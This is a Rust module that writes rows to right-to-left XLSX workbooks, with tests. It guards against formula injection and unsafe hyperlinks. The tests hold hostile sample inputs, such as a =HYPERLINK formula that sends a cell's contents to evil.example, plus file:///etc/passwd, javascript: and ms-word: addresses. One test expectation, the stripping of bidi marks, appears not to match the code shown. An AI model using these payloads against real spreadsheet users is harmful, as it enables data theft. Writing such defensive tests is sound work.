//! Rows as a workbook for spreadsheets (Office Open XML, XLSX), read from right to left, its header in sight.
//! Words are written as words and never run. The rows wait in a temporary file without a name, so that memory does not grow with them.

use std::borrow::Cow;
use std::collections::HashMap;
use std::io::Write;
use std::panic::{AssertUnwindSafe, catch_unwind};

use jiff::fmt::temporal::Pieces;
use rust_xlsxwriter::{ExcelDateTime, Format, Workbook, Worksheet, XlsxError};

use crate::address::is_absolute;
use crate::cell::Cell;
use crate::date;
use crate::error::{ErrorKind, TableError};

/// UTF-16 code units of a cell at most.
const CELL: usize = 32_767;
/// Ends a cell that was cut.
const CUT: &str = "…";
/// Rows of a sheet, the header among them.
const ROWS: u32 = 1_048_576;
/// Links of a sheet; addresses after that are words.
const LINKS: usize = 65_530;
/// UTF-16 code units of an address that can be followed.
const ADDRESS: usize = 2_080;
/// Columns are as wide as so many digits; those of words are read.
const WIDTH: f64 = 24.0;

/// A workbook that is being written. It goes out whole, at the end.
pub struct Table<W: Write + Send> {
    book: Workbook,
    header: Vec<String>,
    /// Of a sheet at most; less in tests.
    limits: (u32, usize),
    /// Rows and links of the sheet that is being filled.
    filled: (u32, usize),
    formats: HashMap<String, Format>,
    cut: usize,
    out: W,
}

impl<W: Write + Send> Table<W> {
    /// Begins a workbook with these columns. `out` is written to by [`Table::finish`].
    ///
    /// # Errors
    /// [`ErrorKind::Xlsx`] where no temporary file can be made.
    pub fn new(header: &[&str], out: W) -> Result<Self, TableError> {
        let mut table = Self {
            book: Workbook::new(),
            header: header.iter().map(|name| (*name).to_owned()).collect(),
            limits: (ROWS, LINKS),
            filled: (0, 0),
            formats: HashMap::new(),
            cut: 0,
            out,
        };
        table.sheet()?;
        Ok(table)
    }

    /// Writes a row: as many cells as there are columns. Rows that a sheet has no room for go on in a further one.
    ///
    /// # Errors
    /// [`ErrorKind::Xlsx`]; the workbook is lost.
    pub fn row(&mut self, cells: &[Cell<'_>]) -> Result<(), TableError> {
        if self.filled.0 == self.limits.0 {
            self.sheet()?;
        }
        let row = self.filled.0;
        for (cell, column) in cells.iter().zip(0..) {
            self.cell(row, column, cell)?;
        }
        self.filled.0 += 1;
        Ok(())
    }

    /// Cells that were longer than 32,767 characters and were cut.
    pub fn cut(&self) -> usize {
        self.cut
    }

    /// Writes the workbook out and gives the writer back.
    ///
    /// # Errors
    /// [`ErrorKind::Io`], [`ErrorKind::Xlsx`].
    pub fn finish(self) -> Result<W, TableError> {
        let Self { mut book, mut out, .. } = self;
        let mut to = Kept { out: &mut out, error: None };
        let saved = held(|| book.save_to_writer(&mut to));
        match to.error.take() {
            Some(error) => Err(error.into()),
            None => saved.map(|()| out),
        }
    }

    /// Begins a sheet.
    fn sheet(&mut self) -> Result<(), TableError> {
        let bold = Format::new().set_bold();
        held(|| {
            let sheet = self.book.add_worksheet_with_constant_memory()?;
            sheet.set_right_to_left(true).set_freeze_panes(1, 0)?;
            for (name, column) in self.header.iter().zip(0..) {
                sheet.set_column_width(column, WIDTH)?;
                sheet.write_string_with_format(0, column, name, &bold)?;
            }
            Ok(())
        })?;
        self.filled = (1, 0);
        Ok(())
    }

    fn cell(&mut self, row: u32, column: u16, cell: &Cell<'_>) -> Result<(), TableError> {
        match cell {
            Cell::Empty => Ok(()),
            Cell::Number(number) => self.write(|sheet| sheet.write_number(row, column, *number).map(drop)),
            Cell::Date(written) => match self.date(written) {
                Some((date, format)) => self.write(|sheet| sheet.write_datetime_with_format(row, column, date, &format).map(drop)),
                None => self.words(row, column, written),
            },
            Cell::Link(address) if self.filled.1 < self.limits.1 && is_of_the_web(address) => {
                self.filled.1 += 1;
                self.write(|sheet| sheet.write_url_with_text(row, column, address.as_ref(), address.as_ref()).map(drop))
            }
            Cell::Link(words) | Cell::Text(words) => self.words(row, column, words),
        }
    }

    fn words(&mut self, row: u32, column: u16, words: &str) -> Result<(), TableError> {
        let (words, is_cut) = fitting(words);
        self.cut += usize::from(is_cut);
        self.write(|sheet| sheet.write_string(row, column, words).map(drop))
    }

    /// A day, or a day and time as the clocks of the place showed it, and how it is shown: with its distance from UTC, which a cell cannot keep.
    fn date(&mut self, written: &str) -> Option<(ExcelDateTime, Format)> {
        let day = date::day(written)?;
        let (year, month, of_month) = (u16::try_from(day.year()).ok()?, u8::try_from(day.month()).ok()?, u8::try_from(day.day()).ok()?);
        let cell = ExcelDateTime::from_ymd(year, month, of_month).ok()?;
        let pieces = Pieces::parse(written).ok();
        let (cell, shown) = match pieces.as_ref().and_then(|p| Some((p.time()?, p.to_numeric_offset()?))) {
            None => (cell, "yyyy-mm-dd".to_owned()),
            Some((time, offset)) => {
                let cell = cell.and_hms(time.hour().cast_unsigned().into(), time.minute().cast_unsigned(), time.second().cast_unsigned());
                let minutes = offset.seconds() / 60;
                let zone = match minutes {
                    0 => "Z".to_owned(),
                    _ => format!("{}{:02}:{:02}", if minutes < 0 { '-' } else { '+' }, minutes.abs() / 60, minutes.abs() % 60),
                };
                (cell.ok()?, format!("yyyy-mm-dd hh:mm:ss\"{zone}\""))
            }
        };
        let format = self.formats.entry(shown).or_insert_with_key(|shown| Format::new().set_num_format(shown));
        Some((cell, format.clone()))
    }

    fn write(&mut self, with: impl FnOnce(&mut Worksheet) -> Result<(), XlsxError>) -> Result<(), TableError> {
        held(|| with(self.book.worksheets_mut().last_mut().expect("a workbook begins with a sheet")))
    }
}

/// Runs what writes to the temporary file; the library panics where the disk is full.
fn held(with: impl FnOnce() -> Result<(), XlsxError>) -> Result<(), TableError> {
    match catch_unwind(AssertUnwindSafe(with)) {
        Ok(done) => done.map_err(|error| ErrorKind::Xlsx(error.to_string()).into()),
        Err(_) => Err(ErrorKind::Xlsx("the temporary file of the rows could not be written".into()).into()),
    }
}

/// Keeps the first error of a writer, which the library would only describe, and takes what it still writes to end in good order.
struct Kept<'w, W> {
    out: &'w mut W,
    error: Option<std::io::Error>,
}

impl<W: Write> Kept<'_, W> {
    fn keep<T>(&mut self, done: std::io::Result<T>) -> std::io::Result<T> {
        done.map_err(|error| {
            let kind = error.kind();
            self.error.get_or_insert(error);
            kind.into()
        })
    }
}

impl<W: Write> Write for Kept<'_, W> {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        if self.error.is_some() {
            return Ok(bytes.len());
        }
        let done = self.out.write(bytes);
        self.keep(done)
    }

    fn flush(&mut self) -> std::io::Result<()> {
        if self.error.is_some() {
            return Ok(());
        }
        let done = self.out.flush();
        self.keep(done)
    }
}

/// Words that XML and a cell can hold, and whether they had to be cut. What XML does not allow becomes U+FFFD, and line ends `\n`.
fn fitting(words: &str) -> (Cow<'_, str>, bool) {
    let is_foreign = |c: char| (c.is_ascii_control() && !matches!(c, '\t' | '\n')) || matches!(c, '\u{FFFE}' | '\u{FFFF}');
    let words = match words.contains(is_foreign) {
        false => Cow::Borrowed(words),
        true => words.replace("\r\n", "\n").replace('\r', "\n").replace(is_foreign, "\u{FFFD}").into(),
    };
    if words.len() <= CELL || words.encode_utf16().count() <= CELL {
        return (words, false);
    }
    let mut room = CELL - CUT.encode_utf16().count();
    let fits = |c: &char| {
        let fits = c.len_utf16() <= room;
        room -= if fits { c.len_utf16() } else { room };
        fits
    };
    let kept: String = words.chars().take_while(fits).collect();
    ((kept + CUT).into(), true)
}

/// Whether a spreadsheet may follow the address: one of the web and no other, so that a click opens no file and no program.
fn is_of_the_web(address: &str) -> bool {
    let scheme = |scheme: &str| address.get(..scheme.len()).is_some_and(|begins| begins.eq_ignore_ascii_case(scheme));
    (scheme("http://") || scheme("https://"))
        && is_absolute(address)
        && !address.contains(['\u{FFFE}', '\u{FFFF}'])
        && address.encode_utf16().count() <= ADDRESS
}

#[cfg(test)]
mod tests {
    use std::io::{Cursor, Read};

    use calamine::{Data, Reader, Xlsx};

    use super::*;

    fn written(limits: (u32, usize), rows: &[Vec<Cell<'_>>]) -> (Vec<u8>, usize) {
        let header: Vec<String> = (0..rows[0].len()).map(|n| format!("c{n}")).collect();
        let mut table = Table::new(&header.iter().map(String::as_str).collect::<Vec<_>>(), Vec::new()).unwrap();
        table.limits = limits;
        rows.iter().for_each(|row| table.row(row).unwrap());
        let cut = table.cut();
        (table.finish().unwrap(), cut)
    }

    /// The rows of each sheet, without its header.
    fn read(workbook: Vec<u8>) -> Vec<Vec<Vec<Data>>> {
        let mut book: Xlsx<_> = Xlsx::new(Cursor::new(workbook)).unwrap();
        let sheets = book.sheet_names();
        sheets.iter().map(|name| book.worksheet_range(name).unwrap().rows().skip(1).map(<[_]>::to_vec).collect()).collect()
    }

    fn part(workbook: &[u8], name: &str) -> String {
        let mut text = String::new();
        zip::ZipArchive::new(Cursor::new(workbook)).unwrap().by_name(name).unwrap().read_to_string(&mut text).unwrap();
        text
    }

    #[test]
    fn words_stay_words() {
        for (words, expected) in [
            ("=1+1", "=1+1"),
            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"اضغط\")", "=HYPERLINK(\"http://evil.example/?\"&A1,\"اضغط\")"),
            ("@SUM(1+1)", "@SUM(1+1)"),
            ("-5", "-5"),
            ("1202", "1202"),
            ("{=1}", "{=1}"),
            ("https://example.org/a", "https://example.org/a"),
            ("<b>&amp;\"'</b>", "<b>&amp;\"'</b>"),
            ("a\u{0}b\u{b}c\u{1b}[31m\u{ffff}", "ab\u{fffd}c[31m\u{fffd}"),
            ("سطر\r\nآخر\rوآخر\n", "سطر\nآخر\nوآخر\n"),
            ("_x0041_", "_x0041_"),
            ("\u{200f}قال\u{2069}", "قال"),
            ("🙂 \u{10ffff}", "🙂 \u{10ffff}"),
        ] {
            let (workbook, cut) = written((ROWS, LINKS), &[vec![Cell::text(words)]]);
            let sheet = part(&workbook, "xl/worksheets/sheet1.xml");
            assert!(!sheet.contains("<f>") && !sheet.contains("<hyperlink"), "{sheet}");
            assert_eq!((read(workbook), cut), (vec![vec![vec![Data::String(expected.into())]]], 0), "{words:?}");
        }
    }

    #[test]
    fn dates_are_dates() {
        for (written_as, serial, shown) in [
            ("2031-03-14", 47_921.0, "yyyy-mm-dd"),
            ("2031-03-14T06:00:00+03:00", 47_921.25, "yyyy-mm-dd hh:mm:ss&quot;+03:00&quot;"),
            ("2031-03-14T12:00:00-03:30", 47_921.5, "yyyy-mm-dd hh:mm:ss&quot;-03:30&quot;"),
            ("2031-03-14T18:00:00Z", 47_921.75, "yyyy-mm-dd hh:mm:ss&quot;Z&quot;"),
        ] {
            let (workbook, _) = written((ROWS, LINKS), &[vec![Cell::Date(written_as.into())]]);
            assert!(part(&workbook, "xl/styles.xml").contains(&format!("formatCode=\"{shown}\"")), "{written_as}");
            let [Data::DateTime(found)] = read(workbook)[0][0][..] else { panic!("{written_as}") };
            assert_eq!(found.as_f64(), serial, "{written_as}");
        }
        for written_as in ["2031", "2031-03", "أمس", "1899-12-30", "=1+1"] {
            let (workbook, _) = written((ROWS, LINKS), &[vec![Cell::Date(written_as.into())]]);
            assert_eq!(read(workbook)[0][0], [Data::String(written_as.into())]);
        }
    }

    #[test]
    fn numbers_are_numbers_and_nothing_is_nothing() {
        let row = vec![Cell::Number(0.875), Cell::Number(-5.0), Cell::Empty, Cell::text("")];
        let expected = vec![Data::Float(0.875), Data::Float(-5.0), Data::Empty, Data::Empty];
        assert_eq!(read(written((ROWS, LINKS), &[row]).0), [[expected]]);
    }

    #[test]
    fn a_click_opens_the_web_and_nothing_else() {
        let long = format!("https://example.org/{}", "a".repeat(ADDRESS));
        for (address, is_link) in [
            ("https://example.org/أخبار?id=1&lang=ar#a", true),
            ("HTTP://example.org/", true),
            ("https://example.org/a%20b?q=\u{202e}", true),
            ("file:///etc/passwd", false),
            ("internal:Sheet1!A1", false),
            ("mailto:a@example.org", false),
            ("ms-word:ofe|u|https://example.org/a.doc", false),
            ("javascript:alert(1)", false),
            ("\\\\server\\share", false),
            ("https://example.org/a b", false),
            ("https://example.org/\u{1}", false),
            ("example.org", false),
            ("=1+1", false),
            (&long, false),
        ] {
            let (workbook, _) = written((ROWS, LINKS), &[vec![Cell::link(address)]]);
            assert_eq!(part(&workbook, "xl/worksheets/sheet1.xml").contains("<hyperlink "), is_link, "{address}");
            let shown = address.replace('\u{1}', "\u{fffd}");
            assert_eq!(read(workbook)[0][0], [Data::String(shown)]);
        }
    }

    #[test]
    fn the_sheet_is_read_from_right_to_left_and_its_header_stays() {
        let (workbook, _) = written((ROWS, LINKS), &[vec![Cell::text("قال")]]);
        let sheet = part(&workbook, "xl/worksheets/sheet1.xml");
        assert!(
            sheet.contains("rightToLeft=\"1\"") && sheet.contains("<pane ySplit=\"1\"") && sheet.contains("state=\"frozen\""),
            "{sheet}"
        );
    }

    #[test]
    fn what_is_longer_than_a_cell_is_cut_and_counted() {
        for (length, kept) in [(CELL, CELL), (CELL + 1, CELL - 1)] {
            let words = "م".repeat(length);
            let (workbook, cut) = written((ROWS, LINKS), &[vec![Cell::text(&words)]]);
            let expected = "م".repeat(kept) + if kept < length { CUT } else { "" };
            assert_eq!((read(workbook), cut), (vec![vec![vec![Data::String(expected)]]], usize::from(kept < length)));
        }
        // Two units each, and never half of one.
        let (found, is_cut) = (fitting(&"🙂".repeat(CELL)).0.into_owned(), fitting(&"🙂".repeat(CELL)).1);
        assert_eq!((found, is_cut), ("🙂".repeat(CELL / 2) + CUT, true));
    }

    #[test]
    fn rows_go_on_in_a_further_sheet_and_links_end_as_words() {
        let rows: Vec<_> = (0..5).map(|n| vec![Cell::Link(format!("https://example.org/{n}").into())]).collect();
        let (workbook, _) = written((3, 1), &rows);
        let expected = |n: usize| vec![Data::String(format!("https://example.org/{n}"))];
        for sheet in ["sheet1", "sheet2", "sheet3"] {
            assert_eq!(part(&workbook, &format!("xl/worksheets/{sheet}.xml")).matches("<hyperlink ").count(), 1, "{sheet}");
        }
        assert_eq!(read(workbook), [vec![expected(0), expected(1)], vec![expected(2), expected(3)], vec![expected(4)]]);
    }

    /// A pipe that closes is one, and no trouble of the workbook.
    #[test]
    fn an_error_of_the_writer_is_its_own() {
        struct Closed;
        impl Write for Closed {
            fn write(&mut self, _: &[u8]) -> std::io::Result<usize> {
                Err(std::io::ErrorKind::BrokenPipe.into())
            }
            fn flush(&mut self) -> std::io::Result<()> {
                Ok(())
            }
        }
        let Err(error) = Table::new(&["id"], Closed).unwrap().finish() else { panic!("nothing can be written") };
        assert!(matches!(error.kind(), ErrorKind::Io(e) if e.kind() == std::io::ErrorKind::BrokenPipe), "{error}");
    }
}
